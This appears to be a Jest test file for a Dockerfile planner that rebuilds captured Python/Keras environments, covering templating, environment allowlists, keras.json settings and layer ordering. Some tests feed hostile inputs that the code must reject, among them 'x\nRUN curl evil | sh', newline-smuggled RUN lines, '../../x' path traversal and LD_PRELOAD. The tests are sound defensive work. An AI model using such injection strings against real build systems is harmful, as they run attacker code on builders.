import { describe, expect, it } from '@jest/globals';
import { renderTemplate, TemplateError } from '../../../src/core/dockerfile/template.js';
import { planDockerfile, planEnvironment, type PlanOptions } from '../../../src/core/dockerfile/plan.js';
import type { KerasInfo, KerasSettings, PackageRecord, Snapshot } from '../../../src/core/model.js';
import { loadCompatTable, loadTemplates } from '../../../src/adapters/package-files.js';
import { UV_IMAGE } from '../../../src/services/dockerfile.js';
import type { BaseChoice } from '../../../src/core/dockerfile/base-image.js';
import { makeSnapshot } from '../../helpers/snapshot-fixture.js';

const cpuBase: BaseChoice = {
  image: 'python:3.11.7-slim-bookworm',
  digest: null,
  family: 'python',
  target: 'cpu',
  pythonFrom: 'base',
  cuda: null,
  extraIndexUrls: [],
  reasons: [],
  warnings: [],
  notGuaranteed: [],
};

describe('renderTemplate', () => {
  it('fills placeholders and drops lines whose block is empty', () => {
    expect(renderTemplate('FROM {{image}}\n{{block}}\nRUN x', { image: 'a:b', block: '' })).toBe('FROM a:b\nRUN x');
    expect(renderTemplate('A\n{{block}}\nB', { block: 'one\ntwo' })).toBe('A\none\ntwo\nB');
  });

  it('is strict about missing and unused values', () => {
    expect(() => renderTemplate('{{a}} {{b}}', { a: '1' })).toThrow(/no value for \{\{b\}\}/);
    expect(() => renderTemplate('{{a}}', { a: '1', c: '2' })).toThrow(/without a placeholder: c/);
  });

  it('never lets a value inside a line break out of it', () => {
    for (const value of ['x\nRUN curl evil | sh', 'x\rRUN y', 'x\u2028RUN y']) {
      expect(() => renderTemplate('# reason: {{reason}}', { reason: value })).toThrow(TemplateError);
    }
  });
});

describe('planEnvironment', () => {
  it('bakes in allowlisted captured variables, minus host-only ones, plus the recipe', () => {
    const snapshot = makeSnapshot();
    snapshot.determinism.env = { PYTHONHASHSEED: '0', CUDA_VISIBLE_DEVICES: '1', KERAS_HOME: '/home/José/.keras' };
    const { env, warnings } = planEnvironment(snapshot, cpuBase);
    expect(env.map((e) => [e.name, e.value])).toEqual([['PYTHONHASHSEED', '0']]);
    expect(warnings).toEqual([]);
  });

  it('refuses a variable that capture never records, however it is spelled', () => {
    for (const name of ['LD_PRELOAD', 'HTTPS_PROXY', 'PYTHONPATH']) {
      const snapshot = makeSnapshot();
      snapshot.determinism.env = { [name]: '/tmp/x' };
      expect(() => planEnvironment(snapshot, cpuBase)).toThrow(new RegExp(`determinism\\.env\\.${name}: "${name}" is not a variable snapshot records`));
    }
  });
});

describe('planDockerfile: what the image must carry beyond the packages', () => {
  const plan = async (snapshot: Snapshot, code: PlanOptions['code'] = { included: false, reason: 'test' }) => {
    const [table, templates] = await Promise.all([loadCompatTable(), loadTemplates()]);
    return planDockerfile(snapshot, { toolVersion: '0.1.0', uvImage: UV_IMAGE, code, target: 'cpu' }, table, templates);
  };
  const keras3 = (keras: Partial<KerasInfo>): Snapshot => {
    const s = makeSnapshot();
    s.frameworks.keras = { version: '3.15.1', backend: 'tensorflow', backend_source: 'default', keras_home: '/home/u/.keras', tf_keras_version: null, use_legacy_keras: false, config: null, ...keras };
    return s;
  };

  it('writes the keras.json the backend came from, with the settings that change numerics, and points KERAS_HOME at it', async () => {
    const result = await plan(keras3({ backend: 'jax', backend_source: 'keras.json', config: { backend: 'jax', floatx: 'float64', epsilon: 1e-7, image_data_format: 'channels_first' } }));
    expect(JSON.parse(result.files['keras.json'] ?? 'null')).toEqual({ backend: 'jax', epsilon: 1e-7, floatx: 'float64', image_data_format: 'channels_first' });
    expect(result.files.Dockerfile).toContain('# Keras reads its settings as captured (backend jax, epsilon 1e-7, floatx float64, image_data_format channels_first)');
    expect(result.files.Dockerfile).toContain('COPY keras.json /opt/snapshot/keras/keras.json\nENV KERAS_HOME=/opt/snapshot/keras\n');
  });

  it('writes a keras.json for a schema 1 snapshot that recorded only the backend it came from', async () => {
    const result = await plan(keras3({ backend: 'torch', backend_source: 'keras.json', config: null }));
    expect(JSON.parse(result.files['keras.json'] ?? 'null')).toEqual({ backend: 'torch' });
  });

  it('keeps the keras.json settings when the backend came from KERAS_BACKEND, which the image sets too', async () => {
    const s = keras3({ backend: 'jax', backend_source: 'KERAS_BACKEND', config: { backend: 'tensorflow', floatx: 'float16' } });
    s.determinism.env = { ...s.determinism.env, KERAS_BACKEND: 'jax' };
    const result = await plan(s);
    expect(JSON.parse(result.files['keras.json'] ?? 'null')).toEqual({ backend: 'tensorflow', floatx: 'float16' });
    expect(result.files.Dockerfile).toContain('ENV KERAS_BACKEND="jax"');
  });

  it('carries the numerics settings of Keras 2 / tf.keras too (they read keras.json under KERAS_HOME), but never a backend', async () => {
    const s = makeSnapshot();
    expect(s.frameworks.keras?.version).toBe('2.15.0');
    s.frameworks.keras = { ...(s.frameworks.keras as KerasInfo), config: { backend: 'theano', floatx: 'float16', epsilon: 1e-4 } };
    const result = await plan(s);
    expect(JSON.parse(result.files['keras.json'] ?? 'null')).toEqual({ epsilon: 1e-4, floatx: 'float16' });
    expect(result.files.Dockerfile).toContain('ENV KERAS_HOME=/opt/snapshot/keras');
  });

  it('keeps epsilon a float when it is a whole number: Keras asserts isinstance(epsilon, float)', async () => {
    const text = (await plan(keras3({ backend_source: 'keras.json', backend: 'jax', config: { backend: 'jax', epsilon: 1, floatx: 'float32' } }))).files['keras.json'] ?? '';
    expect(text).toContain('"epsilon": 1.0,');
    const last = (await plan(keras3({ backend_source: 'default', config: { epsilon: 2 } }))).files['keras.json'] ?? '';
    expect(last).toBe('{\n    "epsilon": 2.0\n}\n');
  });

  it('writes none without a keras.json, or for Keras 2 without a numerics setting', async () => {
    expect((await plan(keras3({}))).files['keras.json']).toBeUndefined();
    const s = makeSnapshot();
    expect(s.frameworks.keras?.version).toBe('2.15.0');
    s.frameworks.keras = { ...(s.frameworks.keras as KerasInfo), backend_source: 'keras.json', config: { backend: 'tensorflow' } };
    const result = await plan(s);
    expect(result.files['keras.json']).toBeUndefined();
    expect(result.files.Dockerfile).not.toContain('KERAS_HOME');
  });

  it('refuses keras.json values Keras does not take', async () => {
    for (const [config, field] of [
      [{ floatx: 'float32\nRUN x' }, 'floatx'],
      [{ epsilon: 'small' }, 'epsilon'],
      [{ image_data_format: 'nhwc' }, 'image_data_format'],
      [{ nnx_enabled: 'yes' }, 'nnx_enabled'],
      [{ backend: '../../x' }, 'backend'],
    ] as const) {
      await expect(plan(keras3({ backend_source: 'default', config: config as unknown as KerasSettings }))).rejects.toMatchObject({ code: 'UNSAFE_SNAPSHOT_VALUE', message: expect.stringMatching(new RegExp(`^frameworks\\.keras\\.config\\.${field}: `)) });
    }
  });

  it('names each submodule the code layer holds, with its commit', async () => {
    const sub = 'ab'.repeat(20);
    const result = await plan(makeSnapshot(), { included: true, commit: 'cd'.repeat(20), patched: false, commitOnly: false, subdir: '', submodules: [{ path: 'lib/core', commit: sub, patched: true }] });
    expect(result.files.Dockerfile).toContain(`# Submodule lib/core at commit ${sub}, with its captured uncommitted patch applied.\nCOPY code/ /workspace/code/`);
    await expect(plan(makeSnapshot(), { included: true, commit: 'cd'.repeat(20), patched: false, commitOnly: false, subdir: '', submodules: [{ path: '../x', commit: sub, patched: false }] })).rejects.toMatchObject({ code: 'UNSAFE_SNAPSHOT_VALUE' });
  });

  it('warns, naming them, about files that were untracked at capture and so are not in the image', async () => {
    const s = makeSnapshot();
    s.code = { path: '/w', repo_root: '/w', in_repo: '', git: { ...(s.code?.git as NonNullable<NonNullable<Snapshot['code']>['git']>), untracked: ['config.local.yaml', 'data/\u001b[31mred.csv', ...Array.from({ length: 11 }, (_, i) => `extra-${i}.txt`)] } };
    const warning = (await plan(s)).warnings.find((w) => w.includes('untracked'));
    expect(warning).toMatch(/^13 files were untracked at capture and are not in the image: "config\.local\.yaml", "data\/\\u001b\[31mred\.csv", .* and 3 more\. If the training reads them, commit them/);
    s.code.git!.untracked = [];
    expect((await plan(s)).warnings.some((w) => w.includes('untracked'))).toBe(false);
  });

  it('installs an ssh client for ssh:// pins and says the build needs credentials; no git layer when no VCS pin remains', async () => {
    const s = makeSnapshot();
    const vcs = s.packages[2] as PackageRecord;
    s.packages[2] = { ...vcs, source: { kind: 'vcs', url: 'ssh://git@github.com/org/mylib.git', vcs: 'git', commit_id: 'ab'.repeat(20) } };
    const ssh = await plan(s);
    expect(ssh.files.Dockerfile).toMatch(/apt-get install -y --no-install-recommends git openssh-client/);
    expect(ssh.warnings.join('\n')).toMatch(/mylib is cloned over ssh: the build needs your ssh credentials, which the classic builder cannot pass.*--ssh/);
    s.packages[2] = { ...vcs, source: { kind: 'vcs', url: 'file:///srv/mylib', vcs: 'git', commit_id: 'ab'.repeat(20) } };
    const local = await plan(s);
    expect(local.files.Dockerfile).not.toMatch(/apt-get install/);
  });

  it('labels no revision for a repository that had no commit', async () => {
    const s = makeSnapshot();
    s.code!.git!.commit = null;
    const result = await plan(s);
    expect(result.files.Dockerfile).not.toContain('org.opencontainers.image.revision');
  });

  it('writes an XLA_FLAGS value capture accepted, quoted so Docker reads it back as it was', async () => {
    const s = makeSnapshot();
    s.determinism.env = { PYTHONHASHSEED: '0', XLA_FLAGS: '--xla_dump_hlo_pass_re=.* --xla_dump_to=/tmp/$HOME "q"' };
    const result = await plan(s);
    expect(result.files.Dockerfile).toContain('ENV XLA_FLAGS="--xla_dump_hlo_pass_re=.* --xla_dump_to=/tmp/\\$HOME \\"q\\""');
  });
});

describe('planDockerfile: layer order for the build cache', () => {
  const render = async (snapshot: Snapshot, commit: string) => {
    const [table, templates] = await Promise.all([loadCompatTable(), loadTemplates()]);
    const code: PlanOptions['code'] = { included: true, commit, patched: true, commitOnly: false, subdir: '', submodules: [] };
    return planDockerfile(snapshot, { toolVersion: '0.1.0', uvImage: UV_IMAGE, code, target: 'cpu' }, table, templates).files.Dockerfile;
  };
  /** The instructions (comments and blank lines cut) before the snapshot's own COPY. */
  const dependencyLayers = (dockerfile: string) => dockerfile.slice(0, dockerfile.indexOf('COPY snapshot.yaml')).split('\n').filter((l) => l !== '' && !l.startsWith('#'));

  it('puts the dependency layers first, then the probe, then the snapshot and its labels, the code last', async () => {
    const dockerfile = await render(makeSnapshot(), 'a'.repeat(40));
    const at = (needle: string) => {
      const i = dockerfile.indexOf(needle);
      expect([needle, i >= 0]).toEqual([needle, true]);
      return i;
    };
    const order = ['FROM ', 'RUN python -m pip install', 'ENV PYTHONHASHSEED', 'COPY snapshot_probe.py', 'COPY snapshot.yaml', 'LABEL ', 'LABEL dev.snapshot.path', 'COPY code/', 'WORKDIR '].map(at);
    expect(order).toEqual([...order].sort((a, b) => a - b));
  });

  it('gives a new snapshot of the same environment, at another commit, the same dependency layers', async () => {
    const first = makeSnapshot();
    first.determinism.env = { PYTHONHASHSEED: '0' };
    const second = structuredClone(first);
    second.id = '00000000-0000-4000-8000-00000000beef';
    second.created_at = '2031-01-01T00:00:00.000Z';
    const [a, b] = await Promise.all([render(first, 'a'.repeat(40)), render(second, 'b'.repeat(40))]);
    expect(a).not.toBe(b);
    expect(dependencyLayers(b)).toEqual(dependencyLayers(a));
    expect(dependencyLayers(a).join('\n')).not.toMatch(/LABEL|a{40}|3f2b8c1e/);
  });
});
